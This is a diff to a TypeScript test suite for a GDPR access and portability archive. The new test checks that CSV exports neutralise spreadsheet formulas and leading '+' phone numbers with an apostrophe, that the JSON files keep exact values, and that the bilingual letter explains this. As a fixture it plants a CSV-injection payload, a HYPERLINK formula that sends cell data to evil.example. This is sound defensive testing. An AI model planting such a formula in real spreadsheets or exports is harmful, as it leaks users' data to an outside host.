@@ -20,10 +20,11 @@ import { ticketRow } from "./helpers/tickets";
  * with what is needed to understand it; never what our staff wrote about them.
  */
 let app: TestApp;
+let demo: Awaited<ReturnType<typeof withDemoConnectors>>;
 
 beforeAll(async () => {
   app = await startApp();
-  await withDemoConnectors(app, { respondents: 30, recordings: 30, realAudio: 8, seed: 13 });
+  demo = await withDemoConnectors(app, { respondents: 30, recordings: 30, realAudio: 8, seed: 13 });
   seedRegister(app.db(), new Date());
 });
 afterAll(async () => {
@@ -192,5 +193,53 @@ describe("the portability archive, as the requester downloads it", () => {
     expect(letter).toContain("article 20, paragraphe 4");
     expect(letter).toContain("the question asked and the date of the answer");
     expect(letter).toContain("Article 20(4)");
+  });
+});
+
+describe("spreadsheet formulas in the released CSVs", () => {
+  it("neutralises a CRM value written as a formula and a +33 phone with an apostrophe in the CSV, keeps both exact in the JSON, and says so in the letter", async () => {
+    const formula = '=HYPERLINK("https://evil.example/?d="&A2,"Cliquez ici")';
+    const mobile = "+33698765432";
+    const contact = demo.crm.contacts.get("c-1")!;
+    const before = structuredClone(contact);
+    Object.assign(contact, { address: formula, phone: mobile });
+    try {
+      const { reference, support } = await gatheredCorinne(["access", "portability"]);
+      const dpo = await signedIn(app, "dpo");
+      const zips: Record<string, Map<string, Buffer>> = {};
+      for (const [kind, browser] of [["access", dpo.browser], ["portability", support]] as const) {
+        expect((await browser.post(`/admin/demandes/${reference}`, { intent: `release-${kind}` })).status).toBe(302);
+        const released = app.db().select().from(archives).where(eq(archives.requestId, ticketRow(reference).id)).all().find((a) => a.kind === kind)!;
+        zips[kind] = await downloadAsRequester(released.id);
+      }
+
+      for (const [kind, zip] of Object.entries(zips)) {
+        // The JSON holds the values exactly as the CRM gave them.
+        const [crmContact] = json(zip, "data/crm/contacts.json");
+        expect(crmContact, kind).toMatchObject({ address: formula, phone: mobile });
+        // The CSV: the same cells, each behind an apostrophe a spreadsheet shows and does not run.
+        const rows = csvRows(zip.get("data/crm/contacts.csv")!);
+        const cell = (name: string) => rows[1]![rows[0]!.indexOf(name)];
+        expect(cell("address"), kind).toBe(`'${formula}`);
+        expect(cell("phone"), kind).toBe(`'${mobile}`);
+        expect(cell("email"), kind).toBe(CORINNE);
+        // No cell of any CSV in the archive starts as a formula (the survey's +33 number included).
+        const csvs = [...zip.keys()].filter((name) => name.endsWith(".csv"));
+        expect(csvs.length, kind).toBeGreaterThan(1);
+        for (const name of csvs) {
+          for (const row of csvRows(zip.get(name)!)) for (const value of row) expect(value, `${kind} ${name}`).not.toMatch(/^[=+\-@\t\r]/);
+        }
+        expect(csvRows(zip.get("data/survey/respondents.csv")!).flat(), kind).toContain("'+33247000000");
+        expect(json(zip, "data/survey/respondents.json")[0], kind).toMatchObject({ phone: "+33247000000" });
+        // The letter says so, in both languages.
+        const letter = zip.get("LISEZ-MOI.html")!.toString("utf8").replace(/<[^>]+>/g, "");
+        expect(letter, kind).toContain("une apostrophe (') a été ajoutée au début des cellules qui commencent par =, +, - ou @");
+        expect(letter, kind).toContain("Les fichiers JSON contiennent les valeurs exactes.");
+        expect(letter, kind).toContain("an apostrophe (') was added at the start of cells beginning with =, +, - or @");
+        expect(letter, kind).toContain("The JSON files hold the exact values.");
+      }
+    } finally {
+      Object.assign(contact, before);
+    }
   });
 });
